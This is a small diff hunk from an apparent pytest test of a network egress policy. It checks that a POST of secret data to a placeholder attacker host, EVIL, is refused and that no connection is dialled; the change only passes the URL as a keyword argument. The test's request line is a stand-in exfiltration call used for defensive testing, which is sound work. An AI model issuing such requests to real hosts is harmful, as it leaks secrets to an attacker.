@@ -80,7 +80,7 @@ def test_each_hop_is_held_to_the_decision_where_it_connects(policy: Mapping[str,
                 lab.seen.clear()
                 before = list(lab.dialled)
                 with pytest.raises(Exception, match="unasked"):
-                    await session.request("POST", f"https://{EVIL}/", data=b"secret")
+                    await session.request("POST", url=f"https://{EVIL}/", data=b"secret")
                 assert lab.dialled == before
 
         run(main())
